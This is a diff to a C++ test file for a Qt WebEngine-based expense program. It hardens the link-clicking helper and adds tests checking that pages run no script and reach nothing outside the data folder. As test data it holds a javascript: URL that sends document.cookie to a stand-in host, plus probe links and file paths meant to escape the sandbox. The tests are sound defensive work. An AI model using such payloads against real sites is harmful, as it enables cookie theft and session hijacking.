@@ -1,15 +1,20 @@
 // The main view with its browser. These tests share one process, because the web engine
 // takes a while to start; each waits for the pages it looks at.
 #include <gtest/gtest.h>
+#include <sys/stat.h>
 
 #include <QComboBox>
 #include <QDateEdit>
+#include <QImage>
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QLineEdit>
 #include <QPrinter>
 #include <QPushButton>
 #include <QSignalSpy>
 #include <QTest>
 #include <QWebEnginePage>
+#include <QWebEngineScript>
 #include <filesystem>
 
 #include "shell/command_ids.h"
@@ -50,13 +55,23 @@ class WebViewTest : public testing::FrameTest {
     EXPECT_TRUE(QTest::qWaitFor([&] { return done; }, kLoadTimeoutMs));
     return text.simplified().toStdString();
   }
+  // Runs a script of the test's own: pages themselves run none.
+  QVariant Script(const QString& script) {
+    QVariant value;
+    bool done = false;
+    frame->view()->browser().web_view()->page()->runJavaScript(
+        script, QWebEngineScript::ApplicationWorld, [&](const QVariant& result) {
+          value = result;
+          done = true;
+        });
+    EXPECT_TRUE(QTest::qWaitFor([&] { return done; }, kLoadTimeoutMs));
+    return value;
+  }
   // Follows the first link of the page whose text is `link_text`, as a click would.
   void ClickLink(const std::string& link_text) {
-    const QString script = QString(
-                               "for (const a of document.querySelectorAll('a'))"
-                               "  if (a.textContent.trim() === '%1') { a.click(); break; }")
-                               .arg(QString::fromStdString(link_text));
-    frame->view()->browser().web_view()->page()->runJavaScript(script);
+    Script(QString("for (const a of document.querySelectorAll('a'))"
+                   "  if (a.textContent.trim() === %1[0]) { a.click(); break; }")
+               .arg(QJsonDocument(QJsonArray{QString::fromStdString(link_text)}).toJson()));
   }
   std::string PageFile() { return work.Read("data/temp.tmp"); }
 
@@ -66,12 +81,10 @@ class WebViewTest : public testing::FrameTest {
     const size_t dialogs = prompts.dialogs.size();
     if (handler) prompts.dialog_handlers.push_back(std::move(handler));
     const size_t asked = prompts.asked.size();
-    const QString script = QString(
-                               "for (const a of document.querySelectorAll('a'))"
-                               "  if (decodeURIComponent(a.getAttribute('href')).startsWith('%1'))"
-                               "    { a.click(); break; }")
-                               .arg(QString::fromStdString(target));
-    frame->view()->browser().web_view()->page()->runJavaScript(script);
+    Script(QString("for (const a of document.querySelectorAll('a'))"
+                   "  if (decodeURIComponent(a.getAttribute('href')).startsWith('%1'))"
+                   "    { a.click(); break; }")
+               .arg(QString::fromStdString(target)));
     return QTest::qWaitFor(
         [&] { return prompts.dialogs.size() > dialogs || prompts.asked.size() > asked; },
         kLoadTimeoutMs);
@@ -249,6 +262,69 @@ TEST_F(WebViewTest, APageIsPrintedAsTheBrowserShowsIt) {
   printer.setOutputFileName(QString::fromStdString(pdf));
   EXPECT_TRUE(main.view()->Print(printer));
   EXPECT_GT(std::filesystem::file_size(pdf), 1000u);
+}
+
+// A name that reads as a URL of its own links like any other name: to its item.
+TEST_F(WebViewTest, ALinkToANameWithAColonStaysInTheProgram) {
+  const std::string hostile = "javascript:void(location='http:x.invalid?d='+document.cookie)";
+  Prepare([&](ExpenseDatabase& db) {
+    ASSERT_TRUE(db.AddCategory("Food", "").ok());
+    ASSERT_TRUE(db.AddItemToCategory("Food", hostile, "").ok());
+    ASSERT_TRUE(db.AddItemToCategory("Food", "a:b", "").ok());
+  });
+  store->Write("Status", "SelectedCat", "Food");
+  store->Write("Status", "SelectedItem", "NULL");
+  CMainFrame& main = Open();
+  ASSERT_TRUE(WaitForText("Item list"));
+  ClickLink(hostile);
+  ASSERT_TRUE(
+      QTest::qWaitFor([&] { return main.state().SelectedItem == hostile; }, kLoadTimeoutMs));
+  ASSERT_TRUE(WaitForText("Purchase list"));
+  ASSERT_TRUE(Follow("Delete expense item"));
+  EXPECT_FALSE(main.db().ItemExists("Food", hostile));
+  ASSERT_TRUE(WaitForText("Item list"));
+  ClickLink("a:b");
+  EXPECT_TRUE(QTest::qWaitFor([&] { return main.state().SelectedItem == "a:b"; }, kLoadTimeoutMs));
+}
+
+// A page runs no script, shows no file but the regular files of the data folder (a FIFO
+// there does not hang it), and no link leads off the program's own scheme.
+TEST_F(WebViewTest, APageReachesNothingButTheRegularFilesOfTheDataFolder) {
+  namespace fs = std::filesystem;
+  PrepareHousehold();
+  store->Write("Status", "SelectedCat", "Food");
+  Open();
+  ASSERT_TRUE(WaitForText());
+  const std::string data = work.path() + "/data/";
+  const std::string elsewhere = work.path() + "/elsewhere/";
+  work.Write("elsewhere/secret.htm", "<p>secret</p>");
+  QImage(1, 1, QImage::Format_RGB32).save(QString::fromStdString(data + "dot.png"));
+  fs::copy_file(data + "dot.png", elsewhere + "dot.png");
+  fs::create_symlink(elsewhere + "dot.png", data + "link.png");
+  ASSERT_EQ(::mkfifo((data + "fifo.png").c_str(), 0600), 0);
+  fs::create_directory(data + "folder.png");
+  const QString probe_page = QString(R"html(<p id=s>no script</p>
+      <script>document.getElementById('s').textContent = 'ran'</script>
+      <img src=dot.png><img src="file://%1dot.png"><img src=link.png><img src=fifo.png>
+      <img src=folder.png><a href="file://%1secret.htm">file</a> <a href="data:text/html,secret">
+      data</a> <a href="http://127.0.0.1:9/">http</a> <a href=about:blank>about</a>
+      <a href="javascript:document.write('secret')">javascript</a>)html");
+  work.Write("data/probe.htm", probe_page.arg(QString::fromStdString(elsewhere)).toStdString());
+  QWebEngineView* view = frame->view()->browser().web_view();
+  frame->view()->browser().Navigate(data + "probe.htm");
+  const std::string probe = "no script file data http about javascript";
+  ASSERT_TRUE(WaitForText(probe));
+  ASSERT_TRUE(QTest::qWaitFor(
+      [&] { return Script("[...document.images].every(i => i.complete)").toBool(); },
+      kLoadTimeoutMs));
+  EXPECT_EQ(Script("[...document.images].map(i => i.naturalWidth).join()").toString(), "1,0,0,0,0");
+  for (const char* link : {"file", "data", "http", "about", "javascript"}) {
+    QSignalSpy finished(view, &QWebEngineView::loadFinished);
+    ClickLink(link);
+    finished.wait(1000);
+    EXPECT_TRUE(WaitForText(probe)) << link;
+    EXPECT_EQ(view->url().scheme(), "kestrune") << link;
+  }
 }
 
 }  // namespace
